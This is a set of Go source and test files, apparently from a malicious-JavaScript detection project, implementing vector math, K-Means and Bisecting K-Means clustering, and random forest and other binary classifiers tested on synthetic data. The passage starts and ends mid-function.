		// Guard rounding at the extremes (span may be subnormal-adjacent
		// for pathological inputs).
		switch {
		case y < 0 || math.IsNaN(y):
			y = 0
		case y > 1:
			y = 1
		}
		out[i] = y
	}
	return out
}
