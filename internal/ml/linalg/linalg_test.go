package linalg

import (
	"math"
	"testing"
	"testing/quick"
)

func almostEqual(a, b float64) bool { return math.Abs(a-b) < 1e-9 }

func TestDot(t *testing.T) {
	if got := Dot([]float64{1, 2, 3}, []float64{4, 5, 6}); got != 32 {
		t.Errorf("Dot = %v, want 32", got)
	}
	if got := Dot(nil, nil); got != 0 {
		t.Errorf("Dot(nil) = %v", got)
	}
	// Shorter prefix used on mismatch.
	if got := Dot([]float64{1, 2}, []float64{3}); got != 3 {
		t.Errorf("mismatched Dot = %v, want 3", got)
	}
}

func TestCheck(t *testing.T) {
	if err := Check([]float64{1}, []float64{2}); err != nil {
		t.Error(err)
	}
	if err := Check([]float64{1}, []float64{1, 2}); err != ErrDimension {
		t.Errorf("Check mismatch = %v, want ErrDimension", err)
	}
}

func TestNormAndDistance(t *testing.T) {
	if got := Norm([]float64{3, 4}); !almostEqual(got, 5) {
		t.Errorf("Norm = %v", got)
	}
	if got := Distance([]float64{0, 0}, []float64{3, 4}); !almostEqual(got, 5) {
		t.Errorf("Distance = %v", got)
	}
	if got := SquaredDistance([]float64{1, 1}, []float64{2, 3}); !almostEqual(got, 5) {
		t.Errorf("SquaredDistance = %v", got)
	}
}

func TestCosineSimilarity(t *testing.T) {
	if got := CosineSimilarity([]float64{1, 0}, []float64{1, 0}); !almostEqual(got, 1) {
		t.Errorf("parallel = %v", got)
	}
	if got := CosineSimilarity([]float64{1, 0}, []float64{0, 1}); !almostEqual(got, 0) {
		t.Errorf("orthogonal = %v", got)
	}
	if got := CosineSimilarity([]float64{0, 0}, []float64{1, 1}); got != 0 {
		t.Errorf("zero vector = %v, want 0", got)
	}
}

func TestInPlaceOps(t *testing.T) {
	a := []float64{1, 2}
	AddInPlace(a, []float64{3, 4})
	if a[0] != 4 || a[1] != 6 {
		t.Errorf("AddInPlace = %v", a)
	}
	SubInPlace(a, []float64{1, 1})
	if a[0] != 3 || a[1] != 5 {
		t.Errorf("SubInPlace = %v", a)
	}
	ScaleInPlace(a, 2)
	if a[0] != 6 || a[1] != 10 {
		t.Errorf("ScaleInPlace = %v", a)
	}
	AXPYInPlace(a, 0.5, []float64{2, 2})
	if a[0] != 7 || a[1] != 11 {
		t.Errorf("AXPYInPlace = %v", a)
	}
}

func TestClone(t *testing.T) {
	orig := []float64{1, 2}
	c := Clone(orig)
	c[0] = 99
	if orig[0] != 1 {
		t.Error("Clone aliases the original")
	}
}

func TestMean(t *testing.T) {
	m := Mean([][]float64{{1, 2}, {3, 4}})
	if m[0] != 2 || m[1] != 3 {
		t.Errorf("Mean = %v", m)
	}
	if Mean(nil) != nil {
		t.Error("Mean(nil) should be nil")
	}
}

func TestSoftmax(t *testing.T) {
	p := Softmax([]float64{1, 1, 1}, nil)
	for _, v := range p {
		if !almostEqual(v, 1.0/3) {
			t.Errorf("uniform softmax = %v", p)
		}
	}
	// Numerical stability with huge logits.
	p = Softmax([]float64{1000, 1000}, nil)
	if math.IsNaN(p[0]) || !almostEqual(p[0], 0.5) {
		t.Errorf("large-logit softmax = %v", p)
	}
	// Ordering preserved.
	p = Softmax([]float64{1, 3, 2}, nil)
	if !(p[1] > p[2] && p[2] > p[0]) {
		t.Errorf("softmax ordering = %v", p)
	}
}

// TestQuickSoftmaxSumsToOne property-tests normalization.
func TestQuickSoftmaxSumsToOne(t *testing.T) {
	f := func(raw []float64) bool {
		if len(raw) == 0 {
			return true
		}
		logits := make([]float64, len(raw))
		for i, v := range raw {
			if math.IsNaN(v) || math.IsInf(v, 0) {
				return true
			}
			logits[i] = math.Mod(v, 50)
		}
		p := Softmax(logits, nil)
		sum := 0.0
		for _, v := range p {
			if v < 0 || v > 1 {
				return false
			}
			sum += v
		}
		return math.Abs(sum-1) < 1e-9
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestArgMax(t *testing.T) {
	if got := ArgMax([]float64{1, 5, 3}); got != 1 {
		t.Errorf("ArgMax = %d", got)
	}
	if got := ArgMax([]float64{2, 2}); got != 0 {
		t.Errorf("ties: ArgMax = %d, want first", got)
	}
	if got := ArgMax(nil); got != -1 {
		t.Errorf("ArgMax(nil) = %d", got)
	}
}

func TestMinMaxNormalize(t *testing.T) {
	out := MinMaxNormalize([]float64{2, 4, 6})
	if out[0] != 0 || out[1] != 0.5 || out[2] != 1 {
		t.Errorf("MinMaxNormalize = %v", out)
	}
	// Constant vector maps to zeros.
	out = MinMaxNormalize([]float64{3, 3})
	if out[0] != 0 || out[1] != 0 {
		t.Errorf("constant vector = %v", out)
	}
	if len(MinMaxNormalize(nil)) != 0 {
		t.Error("nil input should produce empty output")
	}
}

// TestQuickMinMaxRange property-tests that outputs stay within [0,1].
func TestQuickMinMaxRange(t *testing.T) {
	f := func(v []float64) bool {
		for _, x := range v {
			if math.IsNaN(x) || math.IsInf(x, 0) {
				return true
			}
		}
		out := MinMaxNormalize(v)
		for _, x := range out {
			if x < 0 || x > 1 {
				return false
			}
		}
		return len(out) == len(v)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}
