package cluster

import (
	"math/rand"
	"testing"
	"testing/quick"
)

// blobs generates n points around each of the given centers with the given
// spread.
func blobs(centers [][]float64, n int, spread float64, seed int64) [][]float64 {
	rng := rand.New(rand.NewSource(seed))
	var out [][]float64
	for _, c := range centers {
		for i := 0; i < n; i++ {
			p := make([]float64, len(c))
			for j := range p {
				p[j] = c[j] + (rng.Float64()*2-1)*spread
			}
			out = append(out, p)
		}
	}
	return out
}

var testCenters = [][]float64{{0, 0}, {10, 10}, {-10, 10}}

func TestKMeansSeparatesBlobs(t *testing.T) {
	points := blobs(testCenters, 30, 0.5, 1)
	res, err := KMeans(points, 3, 7, 50)
	if err != nil {
		t.Fatal(err)
	}
	// Every blob's 30 points must share one assignment.
	for b := 0; b < 3; b++ {
		first := res.Assignments[b*30]
		for i := 1; i < 30; i++ {
			if res.Assignments[b*30+i] != first {
				t.Fatalf("blob %d split across clusters", b)
			}
		}
	}
	// SSE must be small relative to the blob separation.
	if res.SSE > 100 {
		t.Errorf("SSE = %v, too large", res.SSE)
	}
}

func TestKMeansErrors(t *testing.T) {
	if _, err := KMeans(nil, 3, 1, 10); err != ErrNoData {
		t.Errorf("empty input: %v", err)
	}
	if _, err := KMeans([][]float64{{1}}, 2, 1, 10); err != ErrNoData {
		t.Errorf("k > n: %v", err)
	}
}

func TestKMeansIdenticalPoints(t *testing.T) {
	points := [][]float64{{1, 1}, {1, 1}, {1, 1}, {1, 1}}
	res, err := KMeans(points, 2, 3, 20)
	if err != nil {
		t.Fatal(err)
	}
	if res.SSE != 0 {
		t.Errorf("identical points SSE = %v", res.SSE)
	}
}

func TestBisectingKMeansSeparatesBlobs(t *testing.T) {
	points := blobs(testCenters, 25, 0.5, 2)
	res, err := BisectingKMeans(points, 3, 11)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Centroids) != 3 {
		t.Fatalf("centroids = %d", len(res.Centroids))
	}
	for b := 0; b < 3; b++ {
		first := res.Assignments[b*25]
		for i := 1; i < 25; i++ {
			if res.Assignments[b*25+i] != first {
				t.Fatalf("blob %d split", b)
			}
		}
	}
	sizes := res.Sizes()
	for i, s := range sizes {
		if s != 25 {
			t.Errorf("cluster %d size = %d, want 25", i, s)
		}
	}
}

func TestBisectingDeterministic(t *testing.T) {
	points := blobs(testCenters, 20, 1.0, 3)
	r1, err := BisectingKMeans(points, 4, 5)
	if err != nil {
		t.Fatal(err)
	}
	r2, err := BisectingKMeans(points, 4, 5)
	if err != nil {
		t.Fatal(err)
	}
	for i := range r1.Assignments {
		if r1.Assignments[i] != r2.Assignments[i] {
			t.Fatal("bisecting K-means not deterministic for a fixed seed")
		}
	}
}

func TestAssignNearestCentroid(t *testing.T) {
	centroids := [][]float64{{0, 0}, {10, 0}}
	if Assign(centroids, []float64{1, 0}) != 0 {
		t.Error("point near first centroid misassigned")
	}
	if Assign(centroids, []float64{9, 0}) != 1 {
		t.Error("point near second centroid misassigned")
	}
	if Assign(nil, []float64{1}) != -1 {
		t.Error("no centroids should give -1")
	}
}

// TestQuickAssignmentIsNearest property-tests that KMeans assignments always
// point to the closest centroid after convergence.
func TestQuickAssignmentIsNearest(t *testing.T) {
	f := func(seed int64) bool {
		points := blobs([][]float64{{0, 0}, {8, 8}}, 15, 1.0, seed)
		res, err := KMeans(points, 2, seed, 50)
		if err != nil {
			return false
		}
		for i, p := range points {
			if Assign(res.Centroids, p) != res.Assignments[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 25}); err != nil {
		t.Error(err)
	}
}

func TestSSEDecreasesWithK(t *testing.T) {
	points := blobs(testCenters, 20, 2.0, 4)
	curve, err := ElbowCurve(points, 1, 6, 9)
	if err != nil {
		t.Fatal(err)
	}
	if len(curve) != 6 {
		t.Fatalf("curve length = %d", len(curve))
	}
	// Bisecting K-means splits the worst cluster, so SSE is non-increasing
	// in K (up to the 2-means trials' randomness, which the fixed seed
	// controls).
	for i := 1; i < len(curve); i++ {
		if curve[i] > curve[i-1]*1.05 {
			t.Errorf("SSE increased at K=%d: %v -> %v", i+1, curve[i-1], curve[i])
		}
	}
}

func TestElbowCurveErrors(t *testing.T) {
	if _, err := ElbowCurve(nil, 3, 2, 1); err == nil {
		t.Error("invalid range should error")
	}
	// K exceeding point count truncates the curve rather than failing.
	points := blobs([][]float64{{0, 0}}, 3, 0.1, 5)
	curve, err := ElbowCurve(points, 2, 10, 1)
	if err != nil {
		t.Fatal(err)
	}
	if len(curve) > 2 {
		t.Errorf("curve should stop at n points: %d entries", len(curve))
	}
}

func TestBisectingMoreClustersThanPoints(t *testing.T) {
	if _, err := BisectingKMeans([][]float64{{1}, {2}}, 5, 1); err != ErrNoData {
		t.Errorf("err = %v, want ErrNoData", err)
	}
}
