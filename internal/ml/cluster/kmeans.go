// Package cluster implements the clustering algorithms of the JSRevealer
// feature-extraction stage: Lloyd's K-Means, Bisecting K-Means (the paper's
// choice, which removes the initialization sensitivity of plain K-Means),
// and the SSE computation that drives the elbow-method curves of Figure 5.
package cluster

import (
	"errors"
	"math"
	"math/rand"
	"sync/atomic"

	"jsrevealer/internal/ml/linalg"
	"jsrevealer/internal/par"
)

// parallelCutoff is the point count below which the assignment and seeding
// loops stay serial: goroutine fan-out costs more than it saves on small
// clusters (Bisecting K-Means recurses into many of those). Serial and
// parallel paths are bit-identical, so the cutoff never changes results.
const parallelCutoff = 256

// effectiveWorkers resolves a worker knob for n points: small inputs run
// serial, otherwise <= 0 means all CPUs.
func effectiveWorkers(workers, n int) int {
	if n < parallelCutoff {
		return 1
	}
	return par.Workers(workers)
}

// ErrNoData is returned when clustering is asked for more clusters than
// there are points, or for no points at all.
var ErrNoData = errors.New("cluster: not enough data points")

// Result is the outcome of a clustering run.
type Result struct {
	// Centroids holds K centroid vectors.
	Centroids [][]float64
	// Assignments maps each input point to its centroid index.
	Assignments []int
	// SSE is the sum of squared distances of points to their centroids.
	SSE float64
}

// Sizes returns the number of points assigned to each centroid.
func (r *Result) Sizes() []int {
	sizes := make([]int, len(r.Centroids))
	for _, a := range r.Assignments {
		if a >= 0 && a < len(sizes) {
			sizes[a]++
		}
	}
	return sizes
}

// Assign returns the index of the closest centroid to v.
func Assign(centroids [][]float64, v []float64) int {
	best, bestD := -1, math.Inf(1)
	for i, c := range centroids {
		d := linalg.SquaredDistance(c, v)
		if d < bestD {
			best, bestD = i, d
		}
	}
	return best
}

// KMeans runs Lloyd's algorithm with K-Means++-style seeding, parallelizing
// large assignment passes over all CPUs (see KMeansWorkers — results are
// identical at any worker count).
func KMeans(points [][]float64, k int, seed int64, maxIter int) (*Result, error) {
	return KMeansWorkers(points, k, seed, maxIter, 0)
}

// KMeansWorkers is KMeans with an explicit worker bound (<= 0 means all
// CPUs) for the per-iteration assignment pass and the K-Means++ seeding
// distances — the O(n·k·d) dominators. Parallelism is a wall-clock knob
// only: each point's assignment is an independent function of the frozen
// centroids and centroid recomputation stays serial in index order, so the
// clustering is bit-identical at any worker count.
func KMeansWorkers(points [][]float64, k int, seed int64, maxIter, workers int) (*Result, error) {
	if k <= 0 || len(points) < k {
		return nil, ErrNoData
	}
	if maxIter <= 0 {
		maxIter = 50
	}
	workers = effectiveWorkers(workers, len(points))
	rng := rand.New(rand.NewSource(seed))
	centroids := seedPlusPlus(points, k, rng, workers)
	assignments := make([]int, len(points))
	for iter := 0; iter < maxIter; iter++ {
		var changedFlag int32
		par.For(workers, len(points), func(i int) {
			a := Assign(centroids, points[i])
			if a != assignments[i] {
				assignments[i] = a
				atomic.StoreInt32(&changedFlag, 1)
			}
		})
		changed := changedFlag != 0
		// Recompute centroids.
		dim := len(points[0])
		sums := make([][]float64, k)
		counts := make([]int, k)
		for i := range sums {
			sums[i] = make([]float64, dim)
		}
		for i, p := range points {
			linalg.AddInPlace(sums[assignments[i]], p)
			counts[assignments[i]]++
		}
		for i := range sums {
			if counts[i] == 0 {
				// Re-seed an empty cluster with the farthest point.
				sums[i] = linalg.Clone(farthestPoint(points, centroids))
				counts[i] = 1
			} else {
				linalg.ScaleInPlace(sums[i], 1/float64(counts[i]))
			}
		}
		centroids = sums
		if !changed && iter > 0 {
			break
		}
	}
	res := &Result{Centroids: centroids, Assignments: assignments}
	res.SSE = SSE(points, centroids, assignments)
	return res, nil
}

// seedPlusPlus selects k initial centroids with D² weighting. The distance
// pass fans out over workers; the weighted draw sums serially in index
// order, so seeding is bit-identical at any worker count.
func seedPlusPlus(points [][]float64, k int, rng *rand.Rand, workers int) [][]float64 {
	centroids := make([][]float64, 0, k)
	centroids = append(centroids, linalg.Clone(points[rng.Intn(len(points))]))
	dists := make([]float64, len(points))
	for len(centroids) < k {
		par.For(workers, len(points), func(i int) {
			d := math.Inf(1)
			for _, c := range centroids {
				if dd := linalg.SquaredDistance(points[i], c); dd < d {
					d = dd
				}
			}
			dists[i] = d
		})
		total := 0.0
		for _, d := range dists {
			total += d
		}
		if total == 0 {
			// All points identical: duplicate the first centroid.
			centroids = append(centroids, linalg.Clone(points[0]))
			continue
		}
		r := rng.Float64() * total
		acc := 0.0
		chosen := len(points) - 1
		for i, d := range dists {
			acc += d
			if acc >= r {
				chosen = i
				break
			}
		}
		centroids = append(centroids, linalg.Clone(points[chosen]))
	}
	return centroids
}

func farthestPoint(points, centroids [][]float64) []float64 {
	best, bestD := points[0], -1.0
	for _, p := range points {
		d := math.Inf(1)
		for _, c := range centroids {
			if dd := linalg.SquaredDistance(p, c); dd < d {
				d = dd
			}
		}
		if d > bestD {
			best, bestD = p, d
		}
	}
	return best
}

// SSE computes the sum of squared errors of the assignment.
func SSE(points, centroids [][]float64, assignments []int) float64 {
	total := 0.0
	for i, p := range points {
		a := assignments[i]
		if a >= 0 && a < len(centroids) {
			total += linalg.SquaredDistance(p, centroids[a])
		}
	}
	return total
}

// BisectingKMeans repeatedly splits the cluster with the largest SSE using
// 2-means until k clusters exist. This is the algorithm the paper selects
// for its deterministic behaviour relative to plain K-Means. Large splits
// parallelize over all CPUs (see BisectingKMeansWorkers).
func BisectingKMeans(points [][]float64, k int, seed int64) (*Result, error) {
	return BisectingKMeansWorkers(points, k, seed, 0)
}

// BisectingKMeansWorkers is BisectingKMeans with an explicit worker bound
// (<= 0 means all CPUs) threaded into every 2-means split; the clustering
// is bit-identical at any worker count.
func BisectingKMeansWorkers(points [][]float64, k int, seed int64, workers int) (*Result, error) {
	if k <= 0 || len(points) < k {
		return nil, ErrNoData
	}
	type clusterSet struct {
		indices []int
		sse     float64
		center  []float64
	}
	all := make([]int, len(points))
	for i := range all {
		all[i] = i
	}
	root := clusterSet{indices: all}
	root.center = centroidOf(points, all)
	root.sse = sseOf(points, all, root.center)
	clusters := []clusterSet{root}

	for len(clusters) < k {
		// Pick the cluster with the largest SSE that can still be split.
		worst := -1
		for i, c := range clusters {
			if len(c.indices) < 2 {
				continue
			}
			if worst == -1 || c.sse > clusters[worst].sse {
				worst = i
			}
		}
		if worst == -1 {
			return nil, ErrNoData
		}
		target := clusters[worst]
		sub := make([][]float64, len(target.indices))
		for i, idx := range target.indices {
			sub[i] = points[idx]
		}
		// Try a few bisections and keep the best split, as the canonical
		// algorithm prescribes.
		var bestA, bestB []int
		bestSSE := math.Inf(1)
		for trial := 0; trial < 3; trial++ {
			res, err := KMeansWorkers(sub, 2, seed+int64(worst*31+trial), 30, workers)
			if err != nil {
				return nil, err
			}
			var ia, ib []int
			for i, a := range res.Assignments {
				if a == 0 {
					ia = append(ia, target.indices[i])
				} else {
					ib = append(ib, target.indices[i])
				}
			}
			if len(ia) == 0 || len(ib) == 0 {
				continue
			}
			if res.SSE < bestSSE {
				bestSSE = res.SSE
				bestA, bestB = ia, ib
			}
		}
		if bestA == nil {
			// Degenerate cluster (identical points): split arbitrarily.
			half := len(target.indices) / 2
			bestA = target.indices[:half]
			bestB = target.indices[half:]
		}
		ca := clusterSet{indices: bestA, center: centroidOf(points, bestA)}
		ca.sse = sseOf(points, bestA, ca.center)
		cb := clusterSet{indices: bestB, center: centroidOf(points, bestB)}
		cb.sse = sseOf(points, bestB, cb.center)
		clusters[worst] = ca
		clusters = append(clusters, cb)
	}

	res := &Result{
		Centroids:   make([][]float64, len(clusters)),
		Assignments: make([]int, len(points)),
	}
	for ci, c := range clusters {
		res.Centroids[ci] = c.center
		for _, idx := range c.indices {
			res.Assignments[idx] = ci
		}
		res.SSE += c.sse
	}
	return res, nil
}

func centroidOf(points [][]float64, indices []int) []float64 {
	if len(indices) == 0 {
		return nil
	}
	out := make([]float64, len(points[indices[0]]))
	for _, idx := range indices {
		linalg.AddInPlace(out, points[idx])
	}
	linalg.ScaleInPlace(out, 1/float64(len(indices)))
	return out
}

func sseOf(points [][]float64, indices []int, center []float64) float64 {
	total := 0.0
	for _, idx := range indices {
		total += linalg.SquaredDistance(points[idx], center)
	}
	return total
}

// ElbowCurve returns the SSE of Bisecting K-Means for every K in [kMin,
// kMax], the data behind Figure 5.
func ElbowCurve(points [][]float64, kMin, kMax int, seed int64) ([]float64, error) {
	if kMin < 1 || kMax < kMin {
		return nil, errors.New("cluster: invalid K range")
	}
	out := make([]float64, 0, kMax-kMin+1)
	for k := kMin; k <= kMax; k++ {
		if len(points) < k {
			return out, nil
		}
		res, err := BisectingKMeans(points, k, seed)
		if err != nil {
			return nil, err
		}
		out = append(out, res.SSE)
	}
	return out, nil
}
