package classify

import (
	"encoding/json"
	"errors"
)

// nodeJSON is the serialized form of a tree node (recursive).
type nodeJSON struct {
	Leaf      bool      `json:"leaf"`
	Label     bool      `json:"label,omitempty"`
	Prob      float64   `json:"prob,omitempty"`
	Feature   int       `json:"feature,omitempty"`
	Threshold float64   `json:"threshold,omitempty"`
	Left      *nodeJSON `json:"left,omitempty"`
	Right     *nodeJSON `json:"right,omitempty"`
}

func toNodeJSON(n *treeNode) *nodeJSON {
	if n == nil {
		return nil
	}
	return &nodeJSON{
		Leaf:      n.leaf,
		Label:     n.label,
		Prob:      n.prob,
		Feature:   n.feature,
		Threshold: n.threshold,
		Left:      toNodeJSON(n.left),
		Right:     toNodeJSON(n.right),
	}
}

func fromNodeJSON(n *nodeJSON) *treeNode {
	if n == nil {
		return nil
	}
	return &treeNode{
		leaf:      n.Leaf,
		label:     n.Label,
		prob:      n.Prob,
		feature:   n.Feature,
		threshold: n.Threshold,
		left:      fromNodeJSON(n.Left),
		right:     fromNodeJSON(n.Right),
	}
}

// MarshalJSON serializes the tree.
func (d *DecisionTree) MarshalJSON() ([]byte, error) {
	return json.Marshal(toNodeJSON(d.root))
}

// UnmarshalJSON deserializes the tree.
func (d *DecisionTree) UnmarshalJSON(data []byte) error {
	var n nodeJSON
	if err := json.Unmarshal(data, &n); err != nil {
		return err
	}
	d.root = fromNodeJSON(&n)
	if d.root == nil {
		return errors.New("classify: empty tree")
	}
	return nil
}

// forestJSON is the serialized form of a random forest.
type forestJSON struct {
	Trees      []*DecisionTree `json:"trees"`
	Importance []float64       `json:"importance"`
}

// MarshalJSON serializes the forest.
func (f *RandomForest) MarshalJSON() ([]byte, error) {
	return json.Marshal(forestJSON{Trees: f.trees, Importance: f.importance})
}

// UnmarshalJSON deserializes the forest.
func (f *RandomForest) UnmarshalJSON(data []byte) error {
	var fj forestJSON
	if err := json.Unmarshal(data, &fj); err != nil {
		return err
	}
	if len(fj.Trees) == 0 {
		return errors.New("classify: empty forest")
	}
	f.trees = fj.Trees
	f.importance = fj.Importance
	return nil
}
