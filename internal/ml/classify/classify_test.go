package classify

import (
	"encoding/json"
	"math/rand"
	"testing"
	"testing/quick"
)

// separableData builds two Gaussian-ish clouds: label=false around origin,
// label=true around (5,5,...).
func separableData(n, dim int, seed int64) ([][]float64, []bool) {
	rng := rand.New(rand.NewSource(seed))
	feats := make([][]float64, 0, 2*n)
	labels := make([]bool, 0, 2*n)
	for i := 0; i < 2*n; i++ {
		malicious := i%2 == 1
		p := make([]float64, dim)
		base := 0.0
		if malicious {
			base = 5.0
		}
		for j := range p {
			p[j] = base + rng.NormFloat64()
		}
		feats = append(feats, p)
		labels = append(labels, malicious)
	}
	return feats, labels
}

// accuracy evaluates a classifier on a dataset.
func accuracy(c Classifier, feats [][]float64, labels []bool) float64 {
	correct := 0
	for i, f := range feats {
		if c.Predict(f) == labels[i] {
			correct++
		}
	}
	return float64(correct) / float64(len(feats))
}

func allTrainers(seed int64) []Trainer {
	return []Trainer{
		&RandomForestTrainer{Seed: seed, Trees: 20},
		&DecisionTreeTrainer{},
		&LogisticRegressionTrainer{Seed: seed},
		&LinearSVMTrainer{Seed: seed},
		&GaussianNBTrainer{},
	}
}

func TestAllClassifiersOnSeparableData(t *testing.T) {
	trainF, trainL := separableData(60, 4, 1)
	testF, testL := separableData(30, 4, 2)
	for _, tr := range allTrainers(7) {
		clf, err := tr.Train(trainF, trainL)
		if err != nil {
			t.Fatalf("%s: %v", tr.Name(), err)
		}
		if acc := accuracy(clf, testF, testL); acc < 0.9 {
			t.Errorf("%s accuracy = %.2f on separable data", tr.Name(), acc)
		}
	}
}

func TestTrainersRejectEmptyData(t *testing.T) {
	for _, tr := range allTrainers(1) {
		if _, err := tr.Train(nil, nil); err == nil {
			t.Errorf("%s accepted empty training set", tr.Name())
		}
		if _, err := tr.Train([][]float64{{1}}, []bool{true, false}); err == nil {
			t.Errorf("%s accepted mismatched labels", tr.Name())
		}
	}
}

func TestSingleClassTraining(t *testing.T) {
	feats := [][]float64{{1, 2}, {2, 3}, {3, 4}}
	labels := []bool{true, true, true}
	for _, tr := range allTrainers(3) {
		clf, err := tr.Train(feats, labels)
		if err != nil {
			t.Fatalf("%s on single-class: %v", tr.Name(), err)
		}
		if !clf.Predict([]float64{2, 3}) {
			t.Errorf("%s should predict the only seen class", tr.Name())
		}
	}
}

func TestForestDeterministicForSeed(t *testing.T) {
	feats, labels := separableData(40, 3, 5)
	tr := &RandomForestTrainer{Seed: 9, Trees: 10}
	c1, err := tr.Train(feats, labels)
	if err != nil {
		t.Fatal(err)
	}
	c2, _ := tr.Train(feats, labels)
	probe, _ := separableData(20, 3, 6)
	for _, p := range probe {
		if c1.Predict(p) != c2.Predict(p) {
			t.Fatal("forest training not deterministic")
		}
	}
}

func TestForestImportancesNormalized(t *testing.T) {
	// Only feature 0 is informative.
	rng := rand.New(rand.NewSource(4))
	var feats [][]float64
	var labels []bool
	for i := 0; i < 200; i++ {
		malicious := i%2 == 0
		x := 0.0
		if malicious {
			x = 3.0
		}
		feats = append(feats, []float64{x + rng.NormFloat64()*0.1, rng.Float64()})
		labels = append(labels, malicious)
	}
	clf, err := (&RandomForestTrainer{Seed: 2, Trees: 20}).Train(feats, labels)
	if err != nil {
		t.Fatal(err)
	}
	imps := clf.(*RandomForest).FeatureImportances()
	sum := 0.0
	for _, v := range imps {
		sum += v
	}
	if sum < 0.99 || sum > 1.01 {
		t.Errorf("importances sum = %v, want 1", sum)
	}
	if imps[0] < imps[1] {
		t.Errorf("informative feature has lower importance: %v", imps)
	}
}

func TestPredictProbRange(t *testing.T) {
	feats, labels := separableData(40, 3, 8)
	clf, err := (&RandomForestTrainer{Seed: 1, Trees: 15}).Train(feats, labels)
	if err != nil {
		t.Fatal(err)
	}
	rf := clf.(*RandomForest)
	f := func(a, b, c float64) bool {
		p := rf.PredictProb([]float64{a, b, c})
		return p >= 0 && p <= 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

func TestDecisionTreeDepthLimit(t *testing.T) {
	feats, labels := separableData(50, 2, 10)
	clf, err := (&DecisionTreeTrainer{MaxDepth: 1}).Train(feats, labels)
	if err != nil {
		t.Fatal(err)
	}
	// A depth-1 tree (a stump) still separates the linearly separable data.
	if acc := accuracy(clf, feats, labels); acc < 0.9 {
		t.Errorf("stump accuracy = %.2f", acc)
	}
}

func TestForestSerializationRoundTrip(t *testing.T) {
	feats, labels := separableData(40, 3, 12)
	clf, err := (&RandomForestTrainer{Seed: 3, Trees: 8}).Train(feats, labels)
	if err != nil {
		t.Fatal(err)
	}
	rf := clf.(*RandomForest)
	data, err := json.Marshal(rf)
	if err != nil {
		t.Fatal(err)
	}
	var restored RandomForest
	if err := json.Unmarshal(data, &restored); err != nil {
		t.Fatal(err)
	}
	probe, _ := separableData(20, 3, 13)
	for _, p := range probe {
		if rf.Predict(p) != restored.Predict(p) {
			t.Fatal("restored forest disagrees with original")
		}
	}
	imps := restored.FeatureImportances()
	if len(imps) != 3 {
		t.Errorf("importances lost in round trip: %v", imps)
	}
}

func TestEmptyForestUnmarshalFails(t *testing.T) {
	var f RandomForest
	if err := json.Unmarshal([]byte(`{"trees":[],"importance":[]}`), &f); err == nil {
		t.Error("empty forest should fail to unmarshal")
	}
}

func TestTrainerNames(t *testing.T) {
	want := map[string]bool{
		"RandomForest": true, "DecisionTree": true, "LogisticRegression": true,
		"SVM": true, "GaussianNB": true,
	}
	for _, tr := range allTrainers(1) {
		if !want[tr.Name()] {
			t.Errorf("unexpected trainer name %q", tr.Name())
		}
	}
}

func TestGaussianNBHandlesConstantFeature(t *testing.T) {
	feats := [][]float64{{1, 0}, {1, 1}, {1, 0}, {1, 1}}
	labels := []bool{false, true, false, true}
	clf, err := (&GaussianNBTrainer{}).Train(feats, labels)
	if err != nil {
		t.Fatal(err)
	}
	if !clf.Predict([]float64{1, 1}) || clf.Predict([]float64{1, 0}) {
		t.Error("NB failed on the informative second feature")
	}
}
