// Package classify implements the supervised classifiers the paper
// evaluates in Table II: random forest (the final choice), a single
// decision tree, logistic regression, a linear SVM, and Gaussian naive
// Bayes. All operate on dense feature vectors with binary labels
// (true = malicious).
package classify

import (
	"errors"
	"math"
	"math/rand"
	"sort"
)

// ErrNoData is returned when a classifier is trained on an empty set.
var ErrNoData = errors.New("classify: no training data")

// Classifier is a trained binary classifier.
type Classifier interface {
	// Name identifies the algorithm.
	Name() string
	// Predict returns true when the feature vector is classified malicious.
	Predict(features []float64) bool
}

// Trainer builds a classifier from labelled data.
type Trainer interface {
	// Name identifies the algorithm.
	Name() string
	// Train fits a classifier. labels[i] corresponds to features[i].
	Train(features [][]float64, labels []bool) (Classifier, error)
}

// ---------------------------------------------------------------------------
// Decision tree (CART, Gini impurity)
// ---------------------------------------------------------------------------

type treeNode struct {
	// Leaf fields.
	leaf  bool
	label bool
	prob  float64
	// Split fields.
	feature   int
	threshold float64
	left      *treeNode
	right     *treeNode
}

// DecisionTree is a CART tree classifier.
type DecisionTree struct {
	root *treeNode
}

// DecisionTreeTrainer configures CART training.
type DecisionTreeTrainer struct {
	// MaxDepth bounds tree depth; 0 means a default of 12.
	MaxDepth int
	// MinLeaf is the minimum samples per leaf; 0 means 2.
	MinLeaf int
	// featureSubset, when positive, limits each split to a random subset of
	// features (used by the forest); 0 considers all features.
	featureSubset int
	// rng is used for feature subsetting (may be nil for deterministic all-
	// feature splits).
	rng *rand.Rand
}

// Name implements Trainer.
func (*DecisionTreeTrainer) Name() string { return "DecisionTree" }

// Name implements Classifier.
func (*DecisionTree) Name() string { return "DecisionTree" }

// Train implements Trainer.
func (t *DecisionTreeTrainer) Train(features [][]float64, labels []bool) (Classifier, error) {
	if len(features) == 0 || len(features) != len(labels) {
		return nil, ErrNoData
	}
	maxDepth := t.MaxDepth
	if maxDepth <= 0 {
		maxDepth = 12
	}
	minLeaf := t.MinLeaf
	if minLeaf <= 0 {
		minLeaf = 2
	}
	idx := make([]int, len(features))
	for i := range idx {
		idx[i] = i
	}
	b := &treeBuilder{
		features: features,
		labels:   labels,
		maxDepth: maxDepth,
		minLeaf:  minLeaf,
		subset:   t.featureSubset,
		rng:      t.rng,
	}
	return &DecisionTree{root: b.build(idx, 0)}, nil
}

// Predict implements Classifier.
func (d *DecisionTree) Predict(features []float64) bool {
	return d.PredictProb(features) >= 0.5
}

// PredictProb returns the malicious probability at the reached leaf.
func (d *DecisionTree) PredictProb(features []float64) float64 {
	n := d.root
	for !n.leaf {
		if features[n.feature] <= n.threshold {
			n = n.left
		} else {
			n = n.right
		}
	}
	return n.prob
}

type treeBuilder struct {
	features [][]float64
	labels   []bool
	maxDepth int
	minLeaf  int
	subset   int
	rng      *rand.Rand

	// importance accumulates Gini gain per feature for interpretability.
	importance []float64
}

func (b *treeBuilder) build(idx []int, depth int) *treeNode {
	pos := 0
	for _, i := range idx {
		if b.labels[i] {
			pos++
		}
	}
	prob := float64(pos) / float64(len(idx))
